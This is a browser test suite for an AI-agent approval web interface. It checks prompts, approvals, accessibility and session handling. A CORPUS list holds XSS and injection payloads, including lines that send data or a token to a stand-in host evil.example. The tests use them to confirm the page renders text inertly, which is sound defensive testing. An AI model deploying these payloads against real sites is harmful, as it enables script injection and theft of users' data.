"""
The page, in a real browser: what people see is complete and true, what they press counts once, and
no text ever becomes markup.

Screenshots are kept in tests/artefacts.
"""

import json
import os
import re
import tempfile
from collections.abc import Callable, Generator, Iterator
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect, sync_playwright

from holdfast import MessageSource
from holdfast.blocking import open as holdfast_open
from holdfast.session.view.messages import Quote
from tests.acceptance.gateway.conftest import Gateway, until

pytestmark = [
    pytest.mark.needs_system("chromium"),
    pytest.mark.xdist_group("browser"),
    pytest.mark.timeout(180),
]
ARTEFACTS = Path(__file__).parents[2] / "artefacts"
SIZES = {"phone": (390, 844), "desk": (1280, 800)}
WAIT_MS = 60_000
expect.set_options(timeout=WAIT_MS)  # its own is five seconds, whatever the page's is


@pytest.fixture(scope="module")
def browser(needs: Callable[[str], str]) -> Generator[Browser, None, None]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(
            executable_path=needs("chromium"), args=["--no-sandbox"]
        )
        yield launched
        launched.close()


class Tab:
    """One person's browser: their own context, watched for anything that a page should never do."""

    def __init__(
        self, browser: Browser, gateway: Gateway, *, size: str = "desk", scheme: Any = "light"
    ) -> None:
        width, height = SIZES[size]
        self.gateway = gateway
        self.context: BrowserContext = browser.new_context(
            viewport={"width": width, "height": height}, color_scheme=scheme
        )
        self.page: Page = self.context.new_page()
        self.page.set_default_timeout(WAIT_MS)
        self.wrong: list[str] = []
        self.page.on("pageerror", lambda error: self.wrong.append(str(error)))
        self.page.on(
            "dialog",
            lambda dialog: (self.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()),
        )
        self.page.on(
            "request",
            lambda request: (
                None
                if request.url.startswith(gateway.url)
                else self.wrong.append(f"request {request.url}")
            ),
        )
        self.page.on(
            "console",
            lambda said: (
                self.wrong.append(said.text)
                if said.type == "error" and not _is_about_the_line(said.text)
                else None
            ),
        )

    def sign_in(self, token: str) -> "Tab":
        self.page.goto(self.gateway.url)
        self.page.fill("#token", token)
        self.page.get_by_role("button", name="Sign in").click()
        self.page.wait_for_selector(".frame")
        return self

    def go(self, place: str) -> Page:
        self.page.goto(f"{self.gateway.url}/{place}")
        return self.page

    def keep(self, name: str) -> None:
        ARTEFACTS.mkdir(exist_ok=True)
        self.page.screenshot(path=ARTEFACTS / f"{name}.png")

    def settled(self) -> None:
        """The half second in which a card that has just opened takes no click."""
        self.page.wait_for_timeout(600)

    def close(self) -> None:
        self.context.close()
        assert self.wrong == []


class Held:
    """Requests that get no answer until they are let go."""

    def __init__(self, page: Page, pattern: str) -> None:
        self._routes: list[Route] | None = []
        page.route(pattern, self._take)

    def _take(self, route: Route) -> None:
        if self._routes is None:
            route.continue_()
        else:
            self._routes.append(route)

    def let_go(self) -> None:
        routes, self._routes = self._routes or [], None
        for each in routes:
            each.continue_()


def _is_about_the_line(text: str) -> bool:
    """The browser's own words about a server that is away, or a status that the page handles."""
    return "Failed to load resource" in text or "ERR_" in text


@pytest.fixture
def tab(browser: Browser) -> Generator[Callable[..., Tab], None, None]:
    opened: list[Tab] = []

    def open_tab(gateway: Gateway, **more: Any) -> Tab:
        opened.append(Tab(browser, gateway, **more))
        return opened[-1]

    yield open_tab
    for each in opened:
        each.close()


LONG_REPLY = "\n".join(f"line {number}" for number in range(5_000))
LONG_COMMAND = "\n".join(f"echo {number}" for number in range(60))


def test_two_people_a_parked_approval_and_a_killed_server(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    The wrong one is refused, the right one approves, the tool ran once, and everybody sees it.
    """
    gateway.settings('[policy.personal]\nshell = { ask = ["bob"], requester_may_answer = false }\n')
    gateway.start()
    tokens = {name: gateway.token(name) for name in ("alice", "bob", "carol")}
    alice, bob = tab(gateway).sign_in(tokens["alice"]), tab(gateway).sign_in(tokens["bob"])
    page = alice.go("#/s/ops/deploy")
    page.fill("#say", "run: echo ran >> ran.txt")
    page.keyboard.press("Enter")
    expect(page.locator(".prompt .note")).to_have_text("Only bob may answer this.")
    assert page.locator(".prompt .option").count() == 0
    expect(bob.page.locator(".prompt.is-open .display")).to_contain_text("echo ran >> ran.txt")

    gateway.kill()
    expect(page.locator(".line")).to_have_text("reconnecting")
    expect(bob.page.locator(".away-note")).to_contain_text(
        "The server does not answer. What you see is from"
    )
    gateway.start(gateway.port)
    expect(page.locator(".line")).to_have_text("live")
    expect(bob.page.locator(".away-note")).to_be_hidden()

    for wrong in ("alice", "carol"):
        client = gateway.client(tokens[wrong])
        prompt = gateway.waiting(gateway.client(tokens["bob"]))
        assert gateway.answer(client, prompt, "approve_once").json()["code"] == "wrong_approver"
    expect(page.locator(".note", has_text="carol tried to answer")).to_be_visible()

    expect(bob.page.locator(".prompt.is-open .option")).not_to_have_count(0)
    bob.settled()
    bob.keep("two-people-bob-before")
    bob.page.locator(".option[data-option=approve_once]").click()
    expect(bob.page.locator(".outcome")).to_contain_text("Approved by you")
    expect(page.locator(".chip-state", has_text="ran")).to_be_visible()
    expect(page.locator(".t-answered")).to_have_count(1)
    alice.keep("two-people-alice-after")
    assert (gateway.work / "ran.txt").read_text() == "ran\n"


def test_what_others_ask_and_answer_is_in_the_inbox_at_once_and_without_a_line_a_moment_later(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    By its live line alone while there is one; by looking again while there is none; and given up
    while nobody looks at the tab.
    """
    gateway.start()
    token = gateway.token("alice")
    alice = tab(gateway)
    page = alice.page
    lists: list[str] = []
    page.on(
        "request",
        lambda request: lists.append(request.url) if "/v1/approvals?" in request.url else None,
    )
    page.clock.install()
    page.route("**/v1/approvals/events", lambda route: route.abort())
    alice.sign_in(token)
    expect(page.locator(".line")).to_have_text("looking every few seconds")
    gateway.ask("ops/one", "run: echo one")
    expect(page.locator(".prompt.is-open .display")).to_contain_text("echo one")
    page.unroute("**/v1/approvals/events")
    expect(page.locator(".line")).to_have_text("live")

    lists.clear()
    second = gateway.ask("ops/two", "run: echo two")
    card = page.locator(f"[data-approval='{second.id}']")
    expect(card).to_contain_text("echo two")
    expect(page.get_by_role("heading", level=1)).to_have_text("2 prompts wait for you")
    card.locator(".prompt-head").click()
    expect(card.locator(".option")).not_to_have_count(0)
    gateway.elsewhere(
        lambda service: service.answer(
            second.id, "deny", by="alice", digest=second.digest, wait=False
        )
    )
    expect(card.locator(".outcome")).to_contain_text("alice answered: deny.")
    assert card.locator(".option").count() == 0
    expect(page.get_by_role("heading", level=1)).to_have_text("1 prompt waits for you")
    alice.keep("inbox-answered-elsewhere")
    assert lists == []

    client = gateway.client(token)
    look = "(hidden) => { Object.defineProperty(document, 'hidden', { value: hidden, configurable: true }); document.dispatchEvent(new Event('visibilitychange')); }"
    page.evaluate(look, True)
    page.clock.fast_forward(6_000)
    until(lambda: "holdfast_streams 0" in client.get("/metrics").text, "the line to be given up")
    gateway.ask("ops/three", "run: echo three")
    page.evaluate(look, False)
    expect(page.locator(".prompt", has_text="echo three")).to_be_visible()


@pytest.mark.long
def test_two_tabs_of_a_browser_hold_the_inboxs_line_and_a_third_waits_for_its_seat(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    A browser has six connections to one server for all of its tabs: answers must find one free.
    """
    gateway.start()
    token = gateway.token("alice")
    first = tab(gateway).sign_in(token)
    pages = [first.page]
    expect(first.page.locator(".line")).to_have_text("live")
    for line in ("live", "looking every few seconds"):
        page = first.context.new_page()
        page.set_default_timeout(WAIT_MS)
        page.goto(gateway.url)
        page.fill("#token", token)
        page.get_by_role("button", name="Sign in").click()
        expect(page.locator(".line")).to_have_text(line)
        pages.append(page)
    pages[1].close()
    expect(pages[2].locator(".line")).to_have_text("live")


CORPUS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "![](http://evil.example/?q=stolen)",
    "[click](javascript:window.pwned=1)",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "</pre></article><style>*{display:none}</style>",
    "<base href='http://evil.example/'>",
    "<form action='http://evil.example/'><input name=token></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "\u202egnihton si siht\u202c \u200bzero\u200b \x1b[2K\r hidden",
    "data: x\n\nevent: record\nid: 99999\ndata: {}",
]


def test_no_text_of_a_model_a_tool_or_a_person_becomes_markup(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    calls = [
        {"tool": f"<script>{n}</script>", "args": {"a": text}} for n, text in enumerate(CORPUS[:4])
    ]
    lines = [
        {"say": "\n".join(CORPUS), "call": calls},
        {
            "say": CORPUS[1],
            "call": [
                {"tool": "shell", "args": {"command": f"echo '{text}'"}}
                for text in CORPUS[:6]
                if "'" not in text
            ],
        },
        {"say": "\n".join(CORPUS)},
    ]
    gateway.settings(f'[agents.assistant]\nmodel = "{gateway.script(*lines)}"\n')
    gateway.start()
    token = gateway.token("alice", "read,send,approve,admin")
    client = gateway.client(token)
    gateway.send(client, "ops/xss", "\n".join(CORPUS))
    gateway.waiting(client)
    alice = tab(gateway).sign_in(token)
    expect(alice.page.locator(".prompt.is-open")).to_be_visible()
    _is_inert(alice.page)
    page = alice.go("#/s/ops/xss")
    expect(page.locator(".call .prompt").first).to_be_visible()
    _is_inert(page)
    shown = page.locator(".log").inner_text()
    for text in CORPUS[:6]:
        assert text in shown
    for prompt in client.get("/v1/approvals").json()["approvals"]:
        assert (
            page.locator(f"[data-approval='{prompt['id']}'] .display").inner_text()
            == prompt["display"]
        )
        gateway.answer(client, prompt, "deny", reason=CORPUS[0])
    expect(page.locator(".t-answered")).to_have_count(1)
    page.locator("summary", has_text="What came of it").first.click()
    _is_inert(page)
    alice.keep("xss-inert")
    assert alice.wrong == []
    assert (
        page.evaluate(
            "(() => { try { document.body.innerHTML = '<b>x</b>'; return 'markup'; } catch { return 'refused'; } })()"
        )
        == "refused"
    )
    alice.wrong.clear()  # the browser's word about what was just tried


def _is_inert(page: Page) -> None:
    assert page.evaluate("window.pwned") is None
    assert (
        page.locator(
            "#app script, #app iframe, #app svg[onload], #app base, #app form, #app style, #app meta, #app object, #app embed"
        ).count()
        == 0
    )
    assert page.locator("img:not([src='/assets/icon.svg'])").count() == 0
    assert all(
        href.startswith("#")
        for href in page.locator("a").evaluate_all("all => all.map((a) => a.getAttribute('href'))")
    )


def test_by_keyboard_alone_and_a_bare_enter_does_nothing(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """P6: Enter presses no answer; Space does."""
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    gateway.send(client, "ops/one", "run: touch approved.txt")
    prompt = gateway.waiting(client)
    alice = tab(gateway)
    page = alice.go("")
    page.keyboard.type(token)
    page.keyboard.press("Enter")
    page.wait_for_selector(".prompt.is-open .option")
    alice.settled()
    for _ in range(60):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.dataset.option") == "approve_once":
            break
    else:
        pytest.fail("Tab never reached the answer")
    page.keyboard.press("Enter")
    page.keyboard.press("Enter")
    expect(page.locator(".status")).to_have_text("Enter presses nothing here. Space does.")
    assert client.get(f"/v1/approvals/{prompt['id']}").json()["state"] == "requested"
    assert not (gateway.work / "approved.txt").exists()
    page.keyboard.press("Space")
    expect(page.locator(".outcome")).to_contain_text("Approved by you")
    until((gateway.work / "approved.txt").exists, "the tool to have run")
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    alice.keep("help")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_be_hidden()
    page.keyboard.press("2")
    expect(page.get_by_role("heading", name="Conversations", level=1)).to_be_focused()
    page.keyboard.press("n")
    expect(page.locator("#say")).to_be_focused()
    page.keyboard.type("what time is it")
    page.keyboard.press("Enter")
    expect(page.locator(".msg.said")).to_contain_text("now:")


def test_a_prompt_in_its_conversation_names_the_channel_and_who_is_quoted_also_one_that_comes_live(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """As in the inbox: whoever answers is told whose words the request brings along."""
    gateway.start()
    alice = tab(gateway).sign_in(gateway.token("alice"))
    gateway.send(gateway.client(gateway.token("alice", "send")), "ops/api", "what time is it")
    page = alice.go("#/s/ops/api")
    page.wait_for_selector(".msg.said")  # followed from here on
    source = MessageSource.local("alice", quotes=(Quote("carol", "please deploy"),))
    with holdfast_open(gateway.home) as home:
        home.send("ops/api", "run: echo hi", source=source)
    page.wait_for_selector(".call .prompt")
    assert "via local" in page.inner_text(".call .prompt .facts")
    assert "quoting carol" in page.inner_text(".call .prompt .facts")


def test_a_dangerous_one_needs_its_name_typed(gateway: Gateway, tab: Callable[..., Tab]) -> None:
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    gateway.send(client, "ops/danger", "run: sh -c 'touch danger.txt'")
    prompt = gateway.waiting(client)
    assert prompt["dangerous"] is True
    alice = tab(gateway).sign_in(token)
    page = alice.page
    once = page.locator(".option[data-option=approve_once]")
    expect(once).to_be_disabled()
    expect(page.locator(".option[data-option=deny]")).to_be_enabled()
    page.locator(".confirm").fill("shel")
    page.keyboard.press("Enter")
    expect(once).to_be_disabled()
    page.locator(".confirm").fill("shell")
    page.keyboard.press("Enter")
    assert client.get(f"/v1/approvals/{prompt['id']}").json()["state"] == "requested"
    alice.settled()
    once.click()
    expect(page.locator(".outcome")).to_contain_text("Approved by you")
    until((gateway.work / "danger.txt").exists, "the tool to have run")


def test_a_click_meant_for_what_stood_there_before_is_no_answer(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    gateway.send(client, "ops/one", "run: touch hasty.txt")
    prompt = gateway.waiting(client)
    alice = tab(gateway).sign_in(token)
    alice.page.wait_for_selector(".prompt.is-open .option")
    alice.page.evaluate("""() => {
        const head = document.querySelector('.prompt-head'); head.click();
        document.querySelector('.prompt-head').click();
        document.querySelector('.option[data-option=approve_once]').click();
    }""")
    assert client.get(f"/v1/approvals/{prompt['id']}").json()["state"] == "requested"
    assert not (gateway.work / "hasty.txt").exists()


@pytest.fixture
def short_folder() -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="work-") as folder:
        yield Path(folder)


@pytest.mark.parametrize("size", ["phone", "desk"])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_without_scrolling_a_prompt_shows_all_that_an_answer_needs(
    gateway: Gateway, short_folder: Path, tab: Callable[..., Tab], size: str, scheme: str
) -> None:
    """Among others in the inbox, and in its conversation."""
    gateway.work = short_folder  # as long as people's are, and not as a test's
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    gateway.send(client, "ops/release", "run: git push origin release-2.4")
    prompt = gateway.waiting(client)
    gateway.send(
        client,
        "ops/deploy",
        "run: systemctl restart api && curl -sS https://status.internal/health",
    )
    gateway.send(client, "ops/region", "ask me which region should take the traffic?")
    until(lambda: len(client.get("/v1/approvals").json()["approvals"]) == 3, "three prompts")
    alice = tab(gateway, size=size, scheme=scheme).sign_in(token)
    page = alice.page
    expect(page.locator(".prompt")).to_have_count(3)
    expect(page.locator(".prompt.is-open")).to_have_count(1)
    alice.keep(f"inbox-{size}-{scheme}")
    _shows_all(page, "main", prompt)
    alice.go("#/s/ops/release")
    expect(page.locator(".integrity")).to_have_text("history intact")
    expect(page.locator(".call .prompt.is-open .option")).to_have_count(3)
    alice.keep(f"talk-{size}-{scheme}")
    _shows_all(page, ".log", prompt)


def _shows_all(page: Page, within: str, prompt: dict[str, Any]) -> None:
    card = page.locator(".prompt.is-open")
    for name, text in (
        ("Who", "alice"),
        ("Where", "ops/release"),
        ("Where", "personal:alice"),
        ("Why", "policy asks"),
        ("Until", "then denied"),
    ):
        fact = card.locator(".fact", has=page.locator("dt", has_text=name))
        expect(fact).to_contain_text(text)
        _fits(page, fact, within)
    assert card.locator(".display").inner_text() == prompt["display"]
    _fits(page, card.locator(".display"), within)
    # The files that git may run stand behind the command, as the prompt's last lines.
    assert "| git push origin release-2.4" in card.locator(".display .exact").all_inner_texts()
    assert card.locator(".option").count() == len(prompt["options"]) == 3
    for option in prompt["options"]:
        button = card.locator(f"[data-option={option}]")
        expect(button).to_contain_text(prompt["covers"][option])
        _fits(page, button, within)
    assert prompt["digest"][:16] in card.inner_text()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def _fits(page: Page, element: Any, within: str) -> None:
    box, size = element.bounding_box(), page.viewport_size
    assert box is not None
    assert size is not None
    room = page.locator(within).bounding_box()
    assert room is not None
    assert box["x"] >= 0
    assert box["y"] >= room["y"]
    assert box["x"] + box["width"] <= size["width"] + 0.5
    assert box["y"] + box["height"] <= room["y"] + room["height"] + 0.5, (
        f"{element} is below the fold"
    )


def test_the_accessibility_checker_finds_nothing(gateway: Gateway, tab: Callable[..., Tab]) -> None:
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    gateway.send(client, "ops/a", "what time is it")
    gateway.send(client, "ops/b", "run: sh -c 'id'")
    gateway.send(client, "ops/c", "run: true")
    gateway.send(client, "ops/d", "ask me which one?")
    until(lambda: len(client.get("/v1/approvals").json()["approvals"]) == 3, "three prompts")
    gateway.answer(client, gateway.waiting(client, "ops/c"), "approve_session")
    for scheme, size in (("light", "desk"), ("dark", "phone")):
        alice = tab(gateway, scheme=scheme, size=size)
        page = alice.go("")
        page.wait_for_selector("#token")
        _check(page, f"sign in, {scheme}")
        alice.sign_in(token)
        for place, sign in (
            ("#/inbox", ".prompt.is-open .option"), ("#/s/ops/a", ".msg.said"), ("#/s/ops/b", ".call .prompt .option"), ("#/s/ops/new", ".tries"),
            ("#/grants", ".grant"), ("#/talk", ".rows .session"),
        ):  # fmt: skip
            alice.go(place)
            page.wait_for_selector(sign)
            _check(page, f"{place}, {scheme}")
            alice.keep(f"{re.sub('[^a-z]+', '-', place).strip('-')}-{size}-{scheme}")
        page.get_by_role("button", name="Help and keys").click()
        _check(page, f"help, {scheme}")


def _check(page: Page, where: str) -> None:
    found = Axe().run(page).response["violations"]
    told = [
        f"{each['id']}: {node['html'][:200]} {node.get('failureSummary', '')[:300]}"
        for each in found
        for node in each["nodes"]
    ]
    assert not told, f"{where}: {json.dumps(told, indent=1)}"


def test_edit_question_grant_and_revoke_through_the_page(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    alice = tab(gateway).sign_in(token)
    page = alice.go("#/s/ops/work")
    page.fill("#say", "run: echo first > out.txt")
    page.get_by_role("button", name="Send").click()
    page.wait_for_selector(".call .prompt .option")
    alice.settled()
    page.locator("[data-option=edit]").click()
    page.locator(".own textarea").fill(
        '{"command": "echo second", "cwd": ".", "timeout_seconds": null}'
    )
    page.get_by_role("button", name="Ask anew with these").click()
    expect(page.locator(".call .prompt .display")).to_contain_text("echo second")
    alice.settled()
    page.locator(".call .prompt [data-option=approve_everywhere]").click()
    expect(page.locator(".chip-state", has_text="ran")).to_be_visible()
    assert not (gateway.work / "out.txt").exists()

    page = alice.go("#/s/ops/question")
    page.fill("#say", "ask me which region?")
    page.keyboard.press("Enter")
    page.wait_for_selector(".call .question")
    alice.settled()
    page.locator("[data-option=answer]").click()
    page.locator(".own textarea").fill("eu-1, please")
    page.get_by_role("button", name="Send the answer").click()
    expect(page.locator(".t-answered")).to_have_count(1)
    assert "eu-1, please" in json.dumps(
        [
            each
            for each in _records(gateway, client, "ops/question")
            if each["type"] == "call_finished"
        ]
    )

    page = alice.go("#/grants")
    expect(page.locator(".grant")).to_have_count(1)
    expect(page.locator(".grant")).to_contain_text("echo second")
    page.get_by_role("button", name="Ask again from now on").click()
    expect(page.locator(".grant")).to_have_count(0)
    assert client.get("/v1/grants").json()["grants"] == []


def test_what_is_typed_while_the_page_still_looks_stays(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    A place is entered once, however long the first look at everything takes; and nothing is said to
    wait for nobody before somebody looked.
    """
    gateway.start()
    alice = tab(gateway)
    page = alice.page
    page.route("**/v1/approvals/events", lambda route: route.abort())
    prompts, sessions = Held(page, "**/v1/approvals?*"), Held(page, "**/v1/sessions?*")
    with page.expect_request("**/v1/approvals?*"):
        alice.sign_in(gateway.token("alice"))
    expect(page.locator("h1")).to_have_text("What waits for you")
    expect(page.locator(".empty")).to_be_hidden()
    with page.expect_request("**/v1/sessions?*"):
        prompts.let_go()
    expect(page.locator("h1")).to_have_text("Nothing waits for you")
    alice.go("#/s/ops/early")
    page.fill("#say", "run: echo early")
    sessions.let_go()
    page.wait_for_selector(".recent .dim")  # none yet: the look has come back
    expect(page.locator("#say")).to_have_value("run: echo early")
    page.keyboard.press("Enter")
    expect(page.locator(".call .prompt .display")).to_contain_text("echo early")


def test_a_prompt_beside_a_running_sibling_is_typed_into_and_pressed_while_pieces_come(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    Whatever is drawn around it: a card that is taken out and put back loses the focus, what is
    typed next, and the press that is on its way.
    """
    # Numbered, since the page shows a bounded end of the output: its length stops growing.
    chatter = "n=0; until [ -e stop ]; do n=$((n+1)); echo tick $n; sleep 0.02; done"
    model = gateway.script(
        {
            "call": [
                {"tool": "shell", "args": {"command": chatter, "timeout_seconds": 120}},
                {"tool": "ask_person", "args": {"question": "Where?"}},
                {"tool": "write_file", "args": {"path": "out.txt", "content": "x"}},
                {"tool": "write_file", "args": {"path": "other.txt", "content": "y"}},
            ]
        },
        {"say": "done"},
    )
    gateway.settings(f'[agents.assistant]\nmodel = "{model}"\n[policy.personal]\nshell = "auto"\n')
    gateway.start()
    alice = tab(gateway).sign_in(gateway.token("alice"))
    page = alice.go("#/s/ops/busy")
    page.fill("#say", "go")
    page.keyboard.press("Enter")
    expect(page.locator(".call .prompt")).to_have_count(3)
    alice.settled()

    def more() -> None:
        """Pieces have come, and were drawn."""
        page.wait_for_function(
            "(before) => document.querySelector('.call .output pre')?.textContent !== before",
            arg=page.evaluate("() => document.querySelector('.call .output pre')?.textContent"),
        )

    page.locator(".prompt[data-kind=question] [data-option=answer]").click()
    for piece in ("north ", "and ", "south"):
        more()
        page.keyboard.type(piece)
    expect(page.locator(".own textarea")).to_have_value("north and south")
    page.locator(".prompt", has_text="out.txt").locator("[data-option=deny]").hover()
    page.mouse.down()
    more()
    # The moment the first of the two is gone, the other stands where it stood.
    page.evaluate("""() => {
        const gone = document.querySelectorAll('.call .prompt[data-kind=approval]')[0];
        new MutationObserver((_, watch) => {
            const left = document.querySelectorAll('.call .prompt[data-kind=approval]');
            if (gone.isConnected || left.length !== 1) return;
            watch.disconnect();
            left[0].querySelector('[data-option=approve_once]').click();
            window.pressed = true;
        }).observe(document.querySelector('.log'), { childList: true, subtree: true });
    }""")
    page.mouse.up()
    page.wait_for_function("() => window.pressed")
    expect(page.locator(".prompt", has_text="other.txt").locator(".status")).to_have_text(
        "This has only just come here. Press again."
    )
    alice.settled()
    page.locator(".prompt", has_text="other.txt").locator("[data-option=approve_once]").click()
    page.get_by_role("button", name="Send the answer").click()
    (gateway.work / "stop").touch()
    expect(page.locator(".t-answered")).to_have_count(1)
    assert ((gateway.work / "out.txt").exists(), (gateway.work / "other.txt").read_text()) == (
        False,
        "y",
    )


def test_an_older_look_that_comes_late_ends_no_prompt(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    Without a line the inbox looks again and again, and answers may overtake each other: what an old
    one does not know yet is not over.
    """
    gateway.start()
    alice = tab(gateway)
    page = alice.page
    page.clock.install()
    page.route("**/v1/approvals/events", lambda route: route.abort())
    alice.sign_in(gateway.token("alice"))
    expect(page.locator("h1")).to_have_text("Nothing waits for you")
    late: list[tuple[Route, Any]] = []
    page.route("**/v1/approvals?*", lambda route: late.append((route, route.fetch())), times=1)
    page.clock.run_for(4_100)
    until(lambda: page.evaluate("() => 1") and late, "the look that is late")
    gateway.ask("ops/new", "run: touch new.txt")
    with page.expect_request("**/v1/sessions?*"):  # which comes after the look
        page.clock.run_for(4_100)
    expect(page.locator(".prompt.is-open .display")).to_contain_text("touch new.txt")
    ((route, old),) = late
    with page.expect_request("**/v1/sessions?*"):
        route.fulfill(response=old)
    expect(page.locator("h1")).to_have_text("1 prompt waits for you")
    expect(page.locator(".prompt.is-over")).to_have_count(0)


def test_what_is_typed_outlives_a_refusal_an_answer_that_takes_its_time_and_a_sign_out(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    gateway.settings('[approvals]\non_message = "wait"\n[policy.personal]\nshell = "auto"\n')
    gateway.start()
    token = gateway.token("alice")
    alice = tab(gateway).sign_in(token)
    page = alice.go("#/s/ops/slow")
    held: list[Route] = []
    page.route("**/messages", lambda route: held.append(route), times=1)  # noqa: PLW0108  # playwright puts marks on it, which a builtin takes none of
    page.locator("#say").focus()
    page.keyboard.type("write_file path=a.txt content=b")
    page.keyboard.press("Enter")
    page.keyboard.type("the next one")
    until(lambda: page.evaluate("() => 1") and held, "the message to be on its way")
    held[0].continue_()
    expect(page.locator(".call .prompt .display")).to_contain_text("a.txt")
    expect(page.locator("#say")).to_have_value("the next one")

    alice.settled()
    page.locator("[data-option=edit]").click()
    page.locator(".own textarea").fill('{"path": "a.txt", "contents": "typed for long"}')
    page.get_by_role("button", name="Ask anew with these").click()
    expect(page.locator(".prompt .status")).to_contain_text("there is no field 'contents'")
    expect(page.locator(".own textarea")).to_have_value(
        '{"path": "a.txt", "contents": "typed for long"}'
    )
    expect(page.get_by_role("button", name="Ask anew with these")).to_be_enabled()

    page.fill("#say", "run: until [ -e stop ]; do sleep 0.05; done")
    page.keyboard.press("Enter")
    expect(page.locator(".chip-state", has_text="running")).to_be_visible()
    page.get_by_role("button", name="Stop this turn").click()
    expect(page.locator(".ended", has_text="cancelled")).to_have_count(1)
    assert (
        gateway.waiting(gateway.client(token))["turn"] == "t1"
    )  # that one waits on: another was stopped

    page.get_by_role("button", name="Sign out").click()
    page.fill("#token", "hf_half")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "/v1/" in request.url else None)
    page.evaluate(
        "() => new Promise((done) => { addEventListener('hashchange', () => setTimeout(done)); location.hash = '#/s/ops/elsewhere'; })"
    )
    expect(page.locator("#token")).to_have_value("hf_half")
    # A request that was on its way when alice signed out is not one for the new place.
    assert [url for url in asked if "elsewhere" in url] == []


def test_a_job_is_told_as_going_on_until_it_is_over_and_what_would_run_is_read_from_the_left(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    Its call has a result at once, which is no outcome of the job. Words of a command stay whole;
    only what people say has a direction of its own.
    """
    os.mkfifo(gateway.work / "hold")
    gateway.start()
    alice = tab(gateway, size="phone").sign_in(gateway.token("alice"))
    page = alice.go("#/s/ops/job")
    page.fill("#say", "shell command='grep --only-matching held ./hold' background=true")
    page.keyboard.press("Enter")
    page.wait_for_selector(".call .prompt .option")
    assert page.locator(".display .word", has_text=re.compile(r"^--only-matching$")).count() == 1
    directions = "all => [...new Set(all.map((each) => getComputedStyle(each).unicodeBidi))]"
    assert page.locator(".display, .display > span, .display .word").evaluate_all(directions) == [
        "isolate-override"
    ]
    assert page.locator(".msg .text").evaluate_all(directions) == ["plaintext"]
    alice.settled()
    page.locator("[data-option=approve_once]").click()
    expect(page.locator(".call .chip-state")).to_have_text("goes on in the background · alice")
    (gateway.work / "hold").write_text("held no more")
    expect(page.locator(".call .chip-state").first).to_contain_text("ran in")


def _records(gateway: Gateway, client: Any, session: str) -> list[Any]:
    with gateway.events(client, session) as stream:
        stream.until_record("turn_ended")
    return [data for name, _, data in stream.heard if name == "record"]


def test_the_code_in_the_address_works_once_and_stays_nowhere(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    gateway.start()
    owner = tab(gateway)
    page = owner.go(f"#code={gateway.code}")
    page.wait_for_selector(".frame")
    assert gateway.code not in page.url
    assert page.evaluate("document.cookie") == ""
    assert owner.context.cookies() == []
    assert "hf_" not in page.evaluate("JSON.stringify(localStorage)")
    assert "hf_" not in page.content()
    page.reload()
    page.wait_for_selector(".frame")
    thief = tab(gateway)
    other = thief.go(f"#code={gateway.code}")
    expect(other.locator(".status.bad")).to_contain_text("unknown, used or too old")


def test_a_revoked_token_ends_the_page_and_says_so(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    gateway.start()
    token = gateway.token("alice", name="laptop")
    gateway.send(gateway.client(token), "ops/a", "help")
    alice = tab(gateway).sign_in(token)
    page = alice.go("#/s/ops/a")
    page.wait_for_selector(".t-answered")
    gateway.run("tokens", "revoke", "laptop")
    expect(page.locator(".signin .status.bad")).to_contain_text("no longer valid")


def test_a_crash_in_mid_tool_is_drawn_where_it_happened(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    gateway.start()
    token = gateway.token("alice")
    client = gateway.client(token)
    gateway.send(client, "ops/crash", "run: sleep 60")
    gateway.answer(client, gateway.waiting(client), "approve_once")
    with gateway.events(client, "ops/crash") as stream:
        stream.until_record("tool_started")
    gateway.kill()
    gateway.start(gateway.port)
    alice = tab(gateway).sign_in(token)
    page = alice.go("#/s/ops/crash")
    expect(page.locator(".t-crash").first).to_be_visible()
    expect(page.locator(".chip-state", has_text="in doubt")).to_be_visible()
    page.wait_for_selector(".t-answered")
    alice.keep("crash-desk-light")


def test_what_was_deleted_while_the_line_was_down_is_not_gone_on_with_under_the_same_name(
    gateway: Gateway, tab: Callable[..., Tab]
) -> None:
    """
    G4: the cursor is of another life, and the new one is longer; the page begins at its beginning.
    """
    gateway.start()
    token = gateway.token("alice")
    gateway.send(gateway.client(token), "ops/api", "read before-1")
    page = tab(gateway).sign_in(token).go("#/s/ops/api")
